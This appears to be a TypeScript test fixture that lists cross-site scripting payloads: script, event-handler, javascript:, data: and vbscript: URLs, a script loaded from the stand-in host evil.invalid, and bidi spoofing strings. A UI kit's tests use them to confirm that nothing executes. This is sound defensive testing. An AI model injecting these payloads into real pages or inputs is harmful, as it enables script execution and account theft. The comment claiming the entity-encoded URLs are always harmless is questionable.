/**
 * Hostile strings pushed through every text-bearing field the kit renders. Each payload that could execute sets a
 * global (`window.__xss`) or opens a dialog, so a test can tell that nothing ran. URL payloads are also used as
 * image sources and link targets, which the kit must refuse (`safeUrl`).
 */

/** Text payloads: markup, attributes, entities, template syntax, bidi and zero-width tricks, huge strings. */
export const XSS_TEXT: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
  '"><script>window.__xss=2</script>',
  "'><script>window.__xss=3</script>",
  '<img src=x onerror="window.__xss=4">',
  '<img src=x onerror=alert(5)>',
  '<svg onload="window.__xss=6">',
  '<svg><script>window.__xss=7</script></svg>',
  '<svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s">',
  '<body onload=window.__xss=9>',
  '<iframe src="javascript:window.parent.__xss=10"></iframe>',
  '<a href="javascript:window.__xss=11">click</a>',
  '<details open ontoggle="window.__xss=12">',
  '<input autofocus onfocus="window.__xss=13">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=14>',
  '</style><img src=x onerror=window.__xss=15>',
  '</title><script>window.__xss=16</script>',
  '</textarea><script>window.__xss=17</script>',
  '<!--<img src="--><img src=x onerror=window.__xss=18//">',
  '&lt;script&gt;window.__xss=19&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=20&#62;',
  '\\u003cscript\\u003ewindow.__xss=21\\u003c/script\\u003e',
  '${window.__xss=22}',
  '`${alert(23)}`',
  '{{constructor.constructor("window.__xss=24")()}}',
  '<style>@import "javascript:window.__xss=25";</style>',
  '<div style="background:url(javascript:window.__xss=26)">x</div>',
  '<object data="data:text/html,<script>window.parent.__xss=27</script>"></object>',
  '<embed src="javascript:window.__xss=28">',
  '<form><button formaction="javascript:window.__xss=29">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=30">',
  '<base href="javascript:window.__xss=31//">',
  'Pyörä \u202Egpj.exe\u202C kypärä',
  'Zero\u200Bwidth\u200C\u200Djoin\uFEFFer',
  '\u0000null<script>window.__xss=35</script>',
  'A'.repeat(10_000),
  'W'.repeat(4_000) + '<img src=x onerror=window.__xss=37>',
  '<template><script>window.__xss=38</script></template>',
  '<x onpointerenter=window.__xss=39 style="display:block;position:fixed;inset:0">hover</x>',
  '"onmouseover="window.__xss=40" x="',
];

/** URL payloads: each must be refused as a link target or image source. */
export const XSS_URLS: readonly string[] = [
  'javascript:window.__xss=101',
  'JaVaScRiPt:window.__xss=102',
  ' javascript:window.__xss=103',
  'java\tscript:window.__xss=104',
  'java\nscript:window.__xss=105',
  '\u0001javascript:window.__xss=106',
  'javascript&colon;window.__xss=107',
  '&#106;avascript:window.__xss=108',
  'data:text/html,<script>window.__xss=109</script>',
  'DATA:image/svg+xml,<svg onload="window.__xss=110">',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=',
  'vbscript:msgbox(112)',
  'jav&#x09;ascript:window.__xss=113',
];

/** URL payloads that stay harmless however a browser reads them, but that a naive check would let through. */
export const ENTITY_URLS = ['javascript&colon;window.__xss=107', '&#106;avascript:window.__xss=108', 'jav&#x09;ascript:window.__xss=113'];
